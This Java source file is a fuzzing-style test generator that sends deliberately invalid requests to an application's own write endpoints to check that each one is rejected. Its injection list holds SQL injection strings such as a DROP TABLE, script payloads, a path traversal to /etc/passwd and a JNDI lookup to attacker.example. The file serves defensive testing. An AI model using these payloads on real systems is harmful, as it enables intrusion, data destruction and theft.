package jp.kyoso.local;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.function.Function;
import jp.kyoso.local.WriteEndpoints.WriteEndpoint;

/**
 * Generates requests to one write endpoint of which every single one is invalid in at least one way the server must
 * notice, so none may change anything: the {@link Kind} says which. The rest of each body is a plausible document
 * built from the endpoint's schema whose text fields carry SQL, script and other injection strings, so those travel
 * into the services too, always alongside a defect that has to stop them.
 */
final class HostileRequests {

    /** The defect that makes a request invalid. */
    enum Kind {
        MISSING_FIELD, NULL_FIELD, WRONG_TYPE, CONSTRAINT, NEGATIVE_YEN, OVERFLOW, UNKNOWN_SDG_TARGET,
        INVALID_CORPORATE_NUMBER, DATE_OUT_OF_RANGE, MALFORMED_JSON, INVALID_UTF8, TRAILING_CONTENT, HUGE_BODY,
        WRONG_CONTENT_TYPE, EMPTY_BODY, UNKNOWN_ID, MALFORMED_ID, BAD_TEXT_DOCUMENT;

        /** Kinds that bean validation or the binder reports per field. */
        boolean isFieldLevel() {
            return switch (this) {
                case MISSING_FIELD, NULL_FIELD, CONSTRAINT, NEGATIVE_YEN, UNKNOWN_SDG_TARGET,
                     INVALID_CORPORATE_NUMBER, MALFORMED_ID -> true;
                default -> false;
            };
        }
    }

    /**
     * One request to send.
     *
     * @param endpoint what it targets
     * @param kind its defect
     * @param path the concrete path
     * @param contentType null for none
     * @param body the raw bytes, null for none
     */
    record HostileRequest(WriteEndpoint endpoint, Kind kind, String path, String contentType, byte[] body) {

        String describe() {
            String text = body == null ? "" : new String(body, 0, Math.min(body.length, 300), StandardCharsets.UTF_8);
            return endpoint.method() + " " + path + " [" + kind + ", " + contentType + ", "
                    + (body == null ? 0 : body.length) + " bytes] " + text;
        }
    }

    /** Injection strings: SQL, script and markup, path traversal, template and log injection, control characters. */
    static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE organisation; --",
            "' OR '1'='1",
            "1; SELECT pg_sleep(10); --",
            "\"; DELETE FROM outbox; --",
            "<script>alert('kyoso')</script>",
            "<img src=x onerror=alert(1)>",
            "javascript:alert(document.cookie)",
            "\"><svg/onload=alert(1)>",
            "../../../../etc/passwd",
            "${jndi:ldap://attacker.example/a}",
            "{{7*7}}#{7*7}",
            "%00%0d%0aSet-Cookie: kyoso=1",
            "line\r\nInjected-Header: 1",
            "\u0000\u0001\u0007\u001b[31m",
            "\u202e\u200b\ufeff",
            "東京都' OR 1=1 -- 共創",
            "😀".repeat(20),
            "{\"$gt\": \"\"}");

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final ObjectMapper JSON = new ObjectMapper();
    /** Over every service's 1 MB request limit. */
    private static final int HUGE = 1_200_000;
    private static final List<String> BAD_DATES = List.of("2026-02-30", "2026-13-01", "0000-00-00",
            "+999999999-12-31", "-999999999-01-01", "10000-01-01", "2026/04/01", "令和8年4月1日", "' OR 1=1 --", "");
    private static final List<String> BAD_DATE_TIMES = List.of("2026-02-30T10:00:00+09:00",
            "2026-04-01T25:61:00+09:00", "+999999999-12-31T23:59:59Z", "-999999999-01-01T00:00:00Z",
            "10000-01-01T00:00:00Z", "2026-04-01 10:00", "<script>alert(1)</script>", "");
    private static final List<String> BAD_SDG_TARGETS = List.of("18.1", "1.99", "0.0", "17.20", "3.e",
            "<script>alert(1)</script>", "' OR '1'='1", "");
    private static final List<String> MALFORMED_IDS = List.of("not-a-uuid", "1'%20OR%20'1'%3D'1",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "-1", "99999999999999999999999", "%00", "%E3%81%82",
            "00000000-0000-0000-0000-00000000000g", "x".repeat(3000));
    private static final List<String> TRAILING = List.of("}", "}}", "]", " xyz", " 1", "\n{}",
            " {\"$where\": \"1=1\"}", "<script>alert(1)</script>", " null");
    private static final List<String> MALFORMED_JSON = List.of("{", "{\"title\": \"共創", "[]", "\"text\"", "null",
            "42", "{'single': 'quotes'}", "{\"a\": NaN}", "{\"a\": 01}", "\u0000",
            "[".repeat(5000) + "]".repeat(5000), "{\"a\":".repeat(3000) + "1" + "}".repeat(3000));

    private final Random random;
    private final Function<WriteEndpoint, Map<String, List<String>>> knownIds;

    /**
     * @param seed for reproducible runs
     * @param knownIds per endpoint, existing values for its path parameters (possibly none), so that bodies also
     *     reach the validation behind a successful lookup
     */
    HostileRequests(long seed, Function<WriteEndpoint, Map<String, List<String>>> knownIds) {
        this.random = new Random(seed);
        this.knownIds = knownIds;
    }

    /** {@code count} requests to {@code endpoint}, or none if it takes nothing a caller could get wrong. */
    List<HostileRequest> generate(WriteEndpoint endpoint, int count) {
        List<HostileRequest> requests = new ArrayList<>();
        if (!endpoint.hasJsonBody() && !endpoint.hasTextBody() && endpoint.pathParameters().isEmpty()) {
            return requests;
        }
        Map<String, List<String>> ids = knownIds.apply(endpoint);
        for (int i = 0; i < count; i++) {
            requests.add(next(endpoint, ids, i));
        }
        return requests;
    }

    private HostileRequest next(WriteEndpoint endpoint, Map<String, List<String>> ids, int i) {
        if (endpoint.hasJsonBody()) {
            // One huge body per endpoint is enough to show the limit; the rest cycle through the other defects.
            if (i == 0) {
                return jsonRequest(endpoint, Kind.HUGE_BODY, realPath(endpoint, ids));
            }
            List<Kind> kinds = applicableJsonKinds(endpoint);
            Kind kind = kinds.get(i % kinds.size());
            String path = kind == Kind.UNKNOWN_ID || kind == Kind.MALFORMED_ID
                    ? hostilePath(endpoint, kind) : realPath(endpoint, ids);
            return jsonRequest(endpoint, kind, path);
        }
        if (endpoint.hasTextBody()) {
            return textRequest(endpoint, ids, i);
        }
        // Nothing in the body to get wrong: only identifiers that do not exist or are not identifiers at all, since
        // a real one would be a valid request.
        Kind kind = i % 2 == 0 ? Kind.UNKNOWN_ID : Kind.MALFORMED_ID;
        return new HostileRequest(endpoint, kind, hostilePath(endpoint, kind), "application/json",
                i % 4 == 1 ? pick(INJECTIONS).getBytes(StandardCharsets.UTF_8) : "{}".getBytes(StandardCharsets.UTF_8));
    }

    private List<Kind> applicableJsonKinds(WriteEndpoint endpoint) {
        List<Kind> kinds = new ArrayList<>(List.of(Kind.WRONG_TYPE, Kind.CONSTRAINT, Kind.MALFORMED_JSON,
                Kind.WRONG_CONTENT_TYPE, Kind.EMPTY_BODY, Kind.OVERFLOW, Kind.INVALID_UTF8, Kind.TRAILING_CONTENT));
        ObjectNode properties = (ObjectNode) endpoint.body().path("properties");
        if (endpoint.body().path("required").size() > 0) {
            kinds.add(Kind.MISSING_FIELD);
            kinds.add(Kind.NULL_FIELD);
        }
        properties.fields().forEachRemaining(property -> {
            String name = property.getKey();
            JsonNode schema = property.getValue();
            if (name.endsWith("Yen")) {
                kinds.add(Kind.NEGATIVE_YEN);
                kinds.add(Kind.NEGATIVE_YEN);
            }
            if (name.equals("sdgTargets")) {
                kinds.add(Kind.UNKNOWN_SDG_TARGET);
                kinds.add(Kind.UNKNOWN_SDG_TARGET);
            }
            if (name.equals("corporateNumber")) {
                kinds.add(Kind.INVALID_CORPORATE_NUMBER);
                kinds.add(Kind.INVALID_CORPORATE_NUMBER);
            }
            String format = schema.path("format").asText();
            if (format.equals("date") || format.equals("date-time")) {
                kinds.add(Kind.DATE_OUT_OF_RANGE);
                kinds.add(Kind.DATE_OUT_OF_RANGE);
            }
        });
        if (!endpoint.pathParameters().isEmpty()) {
            kinds.add(Kind.UNKNOWN_ID);
            kinds.add(Kind.MALFORMED_ID);
        }
        return kinds;
    }

    private HostileRequest jsonRequest(WriteEndpoint endpoint, Kind kind, String path) {
        ObjectNode body = document(endpoint.body());
        ObjectNode properties = (ObjectNode) endpoint.body().path("properties");
        String contentType = "application/json";
        switch (kind) {
            case MISSING_FIELD -> body.remove(pick(endpoint.body().path("required")).asText());
            case NULL_FIELD -> body.putNull(pick(endpoint.body().path("required")).asText());
            case WRONG_TYPE -> {
                String name = pickName(properties, schema -> true);
                body.set(name, wrongType(properties.path(name)));
            }
            case CONSTRAINT -> {
                String name = pickName(properties, HostileRequests::constrained);
                if (name == null) {
                    // Nothing constrained: a wrong type is the defect instead.
                    name = pickName(properties, schema -> true);
                    body.set(name, wrongType(properties.path(name)));
                } else {
                    body.set(name, violating(properties.path(name)));
                }
            }
            case OVERFLOW -> {
                String name = pickName(properties, schema -> "integer".equals(schema.path("type").asText()));
                if (name == null) {
                    name = pickName(properties, schema -> true);
                    body.set(name, wrongType(properties.path(name)));
                } else {
                    body.put(name, pick(List.of(new BigInteger("9223372036854775808"),
                            new BigInteger("-9223372036854775809"), new BigInteger("1" + "0".repeat(40)))));
                }
            }
            case NEGATIVE_YEN -> body.put(pickName(properties, schema -> true, name -> name.endsWith("Yen")),
                    pick(List.of(-1L, -100_000L, Long.MIN_VALUE)));
            case UNKNOWN_SDG_TARGET -> body.set("sdgTargets", NODES.arrayNode().add("11.3").add(pick(BAD_SDG_TARGETS)));
            case INVALID_CORPORATE_NUMBER -> body.put("corporateNumber", invalidCorporateNumber());
            case DATE_OUT_OF_RANGE -> {
                String name = pickName(properties, schema -> schema.path("format").asText().startsWith("date"));
                body.put(name, pick(properties.path(name).path("format").asText().equals("date")
                        ? BAD_DATES : BAD_DATE_TIMES));
            }
            case HUGE_BODY -> {
                String name = pickName(properties, schema -> "string".equals(schema.path("type").asText()));
                body.put(name == null ? "padding" : name, "共".repeat(HUGE / 3 + 1));
            }
            case MALFORMED_JSON -> {
                return new HostileRequest(endpoint, kind, path, contentType,
                        pick(MALFORMED_JSON).getBytes(StandardCharsets.UTF_8));
            }
            case EMPTY_BODY -> {
                return new HostileRequest(endpoint, kind, path, contentType, new byte[0]);
            }
            case INVALID_UTF8 -> {
                return new HostileRequest(endpoint, kind, path, contentType, withInvalidUtf8(body));
            }
            case TRAILING_CONTENT -> {
                // A complete, otherwise plausible document followed by more: only the first value used to be read.
                return new HostileRequest(endpoint, kind, path, contentType, concat(bytes(body),
                        pick(TRAILING).getBytes(StandardCharsets.UTF_8)));
            }
            case WRONG_CONTENT_TYPE -> contentType = pick(List.of("text/plain", "application/xml",
                    "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"));
            default -> { }
        }
        return new HostileRequest(endpoint, kind, path, contentType, bytes(body));
    }

    private HostileRequest textRequest(WriteEndpoint endpoint, Map<String, List<String>> ids, int i) {
        String path = realPath(endpoint, ids);
        return switch (i % 6) {
            case 0 -> new HostileRequest(endpoint, Kind.HUGE_BODY, path, endpoint.contentType(),
                    (("名前,種別,法人番号,連絡先\n") + ("共創,COMPANY,1234567890123,a@example.jp\n").repeat(HUGE / 40))
                            .getBytes(StandardCharsets.UTF_8));
            case 1 -> new HostileRequest(endpoint, Kind.EMPTY_BODY, path, endpoint.contentType(), new byte[0]);
            case 2 -> new HostileRequest(endpoint, Kind.INVALID_UTF8, path, endpoint.contentType(),
                    concat("名前\t種別\n".getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF},
                            "\t".getBytes(StandardCharsets.UTF_8)));
            case 3 -> new HostileRequest(endpoint, Kind.UNKNOWN_ID, hostilePath(endpoint, Kind.UNKNOWN_ID),
                    endpoint.contentType(), textDocument());
            case 4 -> new HostileRequest(endpoint, Kind.MALFORMED_ID, hostilePath(endpoint, Kind.MALFORMED_ID),
                    endpoint.contentType(), textDocument());
            default -> new HostileRequest(endpoint, Kind.WRONG_CONTENT_TYPE, path, "application/json",
                    "{\"rows\": []}".getBytes(StandardCharsets.UTF_8));
        };
    }

    /** A table whose every row is broken: an unknown organisation type and a corporate number that cannot be. */
    private byte[] textDocument() {
        StringBuilder text = new StringBuilder();
        for (int row = 0; row < 3; row++) {
            text.append(pick(INJECTIONS).replace('\n', ' ').replace('\t', ' ')).append(",\t<script>,\t")
                    .append(invalidCorporateNumber()).append(",\t").append(pick(INJECTIONS).replace('\n', ' '))
                    .append('\n');
        }
        return text.toString().getBytes(StandardCharsets.UTF_8);
    }

    private String realPath(WriteEndpoint endpoint, Map<String, List<String>> ids) {
        String path = endpoint.path();
        for (Map.Entry<String, JsonNode> parameter : endpoint.pathParameters().entrySet()) {
            List<String> known = ids.getOrDefault(parameter.getKey(), List.of());
            String value;
            if (parameter.getValue().has("enum")) {
                value = pick(parameter.getValue().path("enum")).asText();
            } else if (!known.isEmpty() && random.nextInt(10) < 8) {
                value = URLEncoder.encode(pick(known), StandardCharsets.UTF_8);
            } else {
                value = UUID.randomUUID().toString();
            }
            path = path.replace("{" + parameter.getKey() + "}", value);
        }
        return path;
    }

    private String hostilePath(WriteEndpoint endpoint, Kind kind) {
        String path = endpoint.path();
        List<String> names = new ArrayList<>(endpoint.pathParameters().keySet());
        String target = names.isEmpty() ? null : pick(names);
        for (String name : names) {
            String value;
            if (name.equals(target) && kind == Kind.MALFORMED_ID) {
                value = pick(MALFORMED_IDS);
            } else if (endpoint.pathParameters().get(name).has("enum")) {
                value = pick(endpoint.pathParameters().get(name).path("enum")).asText();
            } else if ("uuid".equals(endpoint.pathParameters().get(name).path("format").asText())) {
                value = UUID.randomUUID().toString();
            } else {
                value = "unknown-" + UUID.randomUUID();
            }
            path = path.replace("{" + name + "}", value);
        }
        return path;
    }

    /** A plausible document for {@code schema} whose free text is all injection strings. */
    private ObjectNode document(JsonNode schema) {
        ObjectNode document = NODES.objectNode();
        schema.path("properties").fields().forEachRemaining(property ->
                document.set(property.getKey(), value(property.getKey(), property.getValue())));
        return document;
    }

    private JsonNode value(String name, JsonNode schema) {
        if (schema.has("enum")) {
            return NODES.textNode(pick(schema.path("enum")).asText());
        }
        String type = schema.path("type").asText("object");
        return switch (type) {
            case "string" -> NODES.textNode(text(name, schema));
            case "integer", "number" -> NODES.numberNode(Math.max(schema.path("minimum").asLong(1), 1));
            case "boolean" -> NODES.booleanNode(random.nextBoolean());
            case "array" -> {
                ArrayNode array = NODES.arrayNode();
                if (name.equals("sdgTargets")) {
                    array.add("11.3");
                } else {
                    int items = Math.max(1, schema.path("minItems").asInt(1));
                    for (int i = 0; i < items; i++) {
                        array.add(value(name, schema.path("items")));
                    }
                }
                yield array;
            }
            default -> document(schema);
        };
    }

    private String text(String name, JsonNode schema) {
        switch (schema.path("format").asText()) {
            case "uuid":
                return UUID.randomUUID().toString();
            case "email":
                return "hostile+" + random.nextInt(1000) + "@example.jp";
            case "date":
                return "2027-01-15";
            case "date-time":
                return "2027-01-15T10:00:00+09:00";
            default:
                break;
        }
        if (name.equals("corporateNumber")) {
            return "1010001000006";
        }
        String text = pick(INJECTIONS);
        int max = schema.path("maxLength").asInt(Integer.MAX_VALUE);
        return text.length() > max ? text.substring(0, max) : text;
    }

    private JsonNode wrongType(JsonNode schema) {
        String type = schema.has("enum") ? "enum" : schema.path("type").asText("object");
        // Including the values micronaut-serde used to coerce (docs/hostile-input.md, "Lenient coercions"): a
        // one-element array or a number for text, text for a flag, digits in text for a number.
        return switch (type) {
            case "string", "enum" -> pick(List.of(NODES.objectNode().put("$gt", ""),
                    NODES.arrayNode().add("<script>alert(1)</script>").add(pick(INJECTIONS)),
                    NODES.arrayNode().add(pick(INJECTIONS)),
                    NODES.arrayNode().add(schema.has("enum") ? pick(schema.path("enum")).asText() : "x"),
                    NODES.numberNode(42), NODES.booleanNode(true)));
            case "integer", "number" -> pick(List.of(NODES.textNode(pick(INJECTIONS)),
                    NODES.textNode(String.valueOf(Math.max(schema.path("minimum").asLong(1), 1))),
                    NODES.arrayNode().add(Math.max(schema.path("minimum").asLong(1), 1)), NODES.booleanNode(true)));
            case "boolean" -> pick(List.of(NODES.objectNode().put("value", pick(INJECTIONS)),
                    NODES.textNode(pick(INJECTIONS)), NODES.textNode("true"), NODES.textNode("yes"),
                    NODES.numberNode(1), NODES.arrayNode().add(true)));
            case "array" -> NODES.objectNode().put("0", pick(INJECTIONS));
            default -> NODES.textNode(pick(INJECTIONS));
        };
    }

    private static boolean constrained(JsonNode schema) {
        return schema.has("maxLength") || schema.has("minLength") || schema.has("enum") || schema.has("minimum")
                || schema.has("maximum") || schema.has("maxItems") || schema.has("minItems")
                || "uuid".equals(schema.path("format").asText()) || "email".equals(schema.path("format").asText());
    }

    private JsonNode violating(JsonNode schema) {
        List<JsonNode> options = new ArrayList<>();
        if (schema.has("maxLength")) {
            options.add(NODES.textNode("あ".repeat(schema.path("maxLength").asInt() + 1)));
        }
        if (schema.path("minLength").asInt() > 0) {
            options.add(NODES.textNode(""));
        }
        if (schema.has("enum")) {
            options.add(NODES.textNode(pick(List.of("UNKNOWN", "<script>alert(1)</script>", "' OR 1=1 --", ""))));
        }
        if (schema.has("minimum")) {
            options.add(NODES.numberNode(schema.path("minimum").asLong() - 1 - random.nextInt(1000)));
        }
        if (schema.has("maximum")) {
            options.add(NODES.numberNode(schema.path("maximum").asLong() + 1 + random.nextInt(1000)));
        }
        if (schema.has("maxItems")) {
            ArrayNode array = NODES.arrayNode();
            for (int i = 0; i <= schema.path("maxItems").asInt(); i++) {
                array.add(value("item", schema.path("items")));
            }
            options.add(array);
        }
        if (schema.path("minItems").asInt() > 0) {
            options.add(NODES.arrayNode());
        }
        if ("uuid".equals(schema.path("format").asText())) {
            options.add(NODES.textNode(pick(List.of("not-a-uuid", "' OR '1'='1", "<script>", "-1"))));
        }
        if ("email".equals(schema.path("format").asText())) {
            options.add(NODES.textNode(pick(List.of("not-an-email", "<script>@x", "a@", "' OR 1=1 --"))));
        }
        return pick(options);
    }

    private String invalidCorporateNumber() {
        StringBuilder twelve = new StringBuilder();
        for (int i = 0; i < 12; i++) {
            twelve.append(random.nextInt(10));
        }
        int sum = 0;
        for (int n = 1; n <= 12; n++) {
            sum += (twelve.charAt(12 - n) - '0') * (n % 2 == 1 ? 1 : 2);
        }
        int wrongCheck = (9 - sum % 9 + 1 + random.nextInt(8)) % 10;
        if (wrongCheck == 9 - sum % 9) {
            wrongCheck = (wrongCheck + 1) % 10;
        }
        return pick(List.of(wrongCheck + twelve.toString(), "12345", "12345678901234", "abcdefghijklm",
                "' OR '1'='1", "<script>alert(1)</script>", "1234567890１２３"));
    }

    private byte[] withInvalidUtf8(ObjectNode body) {
        // A marker inside a string value is replaced by bytes no UTF-8 decoder may accept.
        String marker = "INVALID-UTF8-HERE";
        String name = body.fieldNames().hasNext() ? body.fieldNames().next() : "text";
        body.put(name, marker);
        String json = new String(bytes(body), StandardCharsets.UTF_8);
        int at = json.indexOf(marker);
        byte[] before = json.substring(0, at).getBytes(StandardCharsets.UTF_8);
        byte[] after = json.substring(at + marker.length()).getBytes(StandardCharsets.UTF_8);
        byte[] invalid = pick(List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF, (byte) 0xFE},
                new byte[] {(byte) 0xE3, (byte) 0x81}, new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                new byte[] {(byte) 0xC0, (byte) 0xAF}));
        return concat(before, invalid, after);
    }

    private String pickName(ObjectNode properties, java.util.function.Predicate<JsonNode> schemaTest) {
        return pickName(properties, schemaTest, name -> true);
    }

    private String pickName(ObjectNode properties, java.util.function.Predicate<JsonNode> schemaTest,
                            java.util.function.Predicate<String> nameTest) {
        List<String> names = new ArrayList<>();
        properties.fields().forEachRemaining(property -> {
            if (schemaTest.test(property.getValue()) && nameTest.test(property.getKey())) {
                names.add(property.getKey());
            }
        });
        return names.isEmpty() ? null : pick(names);
    }

    private <T> T pick(List<T> options) {
        return options.get(random.nextInt(options.size()));
    }

    private JsonNode pick(JsonNode array) {
        return array.get(random.nextInt(array.size()));
    }

    private static byte[] bytes(JsonNode body) {
        try {
            return JSON.writeValueAsBytes(body);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
